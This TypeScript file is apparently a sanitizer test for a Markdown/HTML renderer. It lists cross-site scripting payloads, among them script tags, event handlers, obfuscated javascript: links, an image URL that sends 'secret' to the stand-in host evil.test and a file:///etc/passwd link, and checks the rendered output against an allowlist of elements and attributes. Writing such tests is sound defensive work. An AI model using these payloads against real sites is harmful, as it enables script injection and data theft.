/** Text that wants to be more than text, and what it may become. */

/** Texts that want to be more than text. What they would run is `hit`, and where they would go is evil.test. */
export const ATTACKS = [
  "<script>top.hit(1)</script>",
  "<img src=x onerror=hit(2)>",
  "<svg/onload=hit(3)><animate onbegin=hit(3) attributeName=x>",
  "<iframe srcdoc=\"<script>hit(4)</script>\"></iframe>",
  "<a href=javascript:hit(5)>go</a> <form action=//evil.test><button>ok</button></form>",
  "<style>@import '//evil.test/a.css';</style>\n\n<link rel=stylesheet href=//evil.test/b.css>",
  "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test'>",
  "<details open ontoggle=hit(6)>\n\ntext\n\n</details>",
  "<!--><img src=x onerror=hit(7)>-->",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit(8)></style>",
  "[go](javascript:hit(9)) [go](JaVaScRiPt:hit(9)) [go](java\tscript:hit(9))",
  "[go](<java\nscript:hit(10)>) [go](&#106;avascript:hit(10)) [go](javascript&colon;hit(10))",
  "[go](data:text/html,<script>hit(11)</script>) [go](vbscript:hit(11)) [go](file:///etc/passwd)",
  "[go][x]\n\n[x]: javascript:hit(12) \"onclick=hit(12)\"",
  "<javascript:hit(13)> <data:text/html;base64,PHNjcmlwdD4=>",
  "[go](https://ok.test \"x\\\" onmouseover=\\\"hit(14)\")",
  "[go](https://ok.test/\"onmouseover=\"hit(15)) [blob](blob:https://ok.test/1)",
  "![x](https://evil.test/?q=secret) ![y](//evil.test/z.png) ![z](javascript:hit(16))",
  "![\" onerror=\"hit(17)](data:image/png;base64,AAAA) ![s](data:image/svg+xml,<svg/onload=hit(17)>)",
  "![x][p]\n\n[p]: https://evil.test/p.gif",
  "`<img src=x onerror=hit(18)>` and ``<b>`` and\n\n    <script>hit(18)</script>",
  "```html\" onmouseover=\"hit(19)\n<script>hit(19)</script>\n```",
  "```<img/src=x/onerror=hit(20)>\ncode\n```",
  "| <img src=x onerror=hit(21)> | b |\n|---|---|\n| <script>hit(21)</script> | [c](javascript:hit(21)) |",
  "- [ ] <input autofocus onfocus=hit(22)>\n- [x] <video><source onerror=hit(22)></video>",
  "[^<img onerror=hit(23)>] [^a]\n\n[^a]: <script>hit(23)</script> [x](javascript:hit(23))",
  "\\(\\href{javascript:hit(24)}{x}\\) \\(\\includegraphics{https://evil.test/a.png}\\)",
  "$$\\htmlData{onclick=hit(25)}{x}\\url{javascript:hit(25)}$$",
  "\ufdd00\ufdd1 \ufdd099\ufdd1 \u202e[go](https://ok.test/\u202etset)",
  "**<b onclick=hit(26)>** __<i onclick=hit(26)>__ ~~<s onclick=hit(26)>~~",
  "[https://bank.test](https://evil.test) [bank.test](https://bank.test@evil.test/)",
  "&lt;script&gt;hit(27)&lt;/script&gt; &#60;img src=x onerror=hit(27)&#62;",
];

const ELEMENTS = new Set(
  ("a p h2 h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td colgroup col hr br strong em del code pre div span " +
    "button input label sup section img bdi").split(" "),
);
const ATTRIBUTES = new Set(
  ("class dir translate rel target href title start align type disabled tabindex role aria-label aria-pressed id value alt " +
    "loading decoding referrerpolicy src data-source data-src data-alt data-label").split(" "),
);

/** Return what there is in an answer that must not be. */
export function wrong(element: HTMLElement): string[] {
  const found: string[] = [];
  for (const node of element.querySelectorAll("*")) {
    // KaTeX has elements of its own, which lead nowhere.
    const formula = !!node.closest(".math");
    if (!formula && !ELEMENTS.has(node.localName)) found.push(node.localName);
    for (const { name, value } of node.attributes) {
      if (!formula && !ATTRIBUTES.has(name)) found.push(`${node.localName} ${name}`);
      if (formula && /^(?:on|src|href|xlink)/.test(name)) found.push(`${node.localName} ${name}`);
      if (name === "href" && !/^(?:https?:|mailto:|tel:|#notes-)/.test(value)) found.push(value);
      if (name === "src" && !/^data:image\/(?!svg)/.test(value)) found.push(value);
    }
  }
  return found;
}
